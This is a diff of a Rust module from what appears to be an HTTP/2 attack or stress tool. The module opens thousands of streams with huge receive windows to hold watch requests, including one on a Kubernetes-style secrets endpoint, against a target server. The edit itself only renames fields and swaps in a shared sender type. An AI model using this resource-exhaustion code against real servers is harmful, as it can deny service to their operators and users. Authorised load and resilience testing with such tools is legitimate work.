@@ -5,15 +5,15 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
 
 use anyhow::{Result, ensure};
-use bytes::Bytes;
 use http_body_util::{BodyExt, Empty};
 use hyper::Request;
-use hyper::client::conn::http2::{Builder, SendRequest};
+use hyper::client::conn::http2::Builder;
 use hyper_util::rt::{TokioExecutor, TokioIo};
 use tokio::task::JoinSet;
 
 use super::Attack;
 use super::{AttackState, BACK_AFTER, OpenConnection, count};
+use crate::http2::GetSender;
 
 /// Streams on one connection.
 const STREAMS: usize = 1_000;
@@ -21,8 +21,6 @@ const STREAMS: usize = 1_000;
 const SELECTOR_LEN: usize = 50_000;
 /// A receive window for all streams of a connection.
 const WINDOW_LEN: u32 = 1 << 30;
-
-type Sender = SendRequest<Empty<Bytes>>;
 
 pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
     let all = scene.flags.clients;
@@ -47,21 +45,21 @@ pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
 #[derive(Debug)]
 struct Watch {
     number: usize,
-    has_begun: AtomicBool,
+    has_started: AtomicBool,
 }
 
 impl Watch {
     const fn new(number: usize) -> Self {
         Self {
             number,
-            has_begun: AtomicBool::new(false),
+            has_started: AtomicBool::new(false),
         }
     }
 
     /// Counts the watch once it has a response or was refused for the first time.
     fn begin(&self, scene: &AttackState) {
-        if !self.has_begun.swap(true, Ordering::Relaxed) {
-            count(&scene.counts.begun);
+        if !self.has_started.swap(true, Ordering::Relaxed) {
+            count(&scene.counts.started);
         }
     }
 }
@@ -90,7 +88,7 @@ async fn connection(scene: &Arc<AttackState>, watches: &[Arc<Watch>]) -> Result<
     Ok(())
 }
 
-async fn connect(scene: &AttackState, streams: &mut JoinSet<()>) -> Result<Sender> {
+async fn connect(scene: &AttackState, streams: &mut JoinSet<()>) -> Result<GetSender> {
     let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
     let (sender, connection) = Builder::new(TokioExecutor::new())
         .initial_connection_window_size(WINDOW_LEN)
@@ -101,7 +99,7 @@ async fn connect(scene: &AttackState, streams: &mut JoinSet<()>) -> Result<Sende
 }
 
 /// One watch, whose events are dropped; an error if it was refused.
-async fn watch_once(scene: &AttackState, mut sender: Sender, watch: &Watch) -> Result<()> {
+async fn watch_once(scene: &AttackState, mut sender: GetSender, watch: &Watch) -> Result<()> {
     let path = match scene.flags.attack {
         Attack::Forwarded => "/api/v1/secrets?watch=1".to_owned(),
         _ => format!(
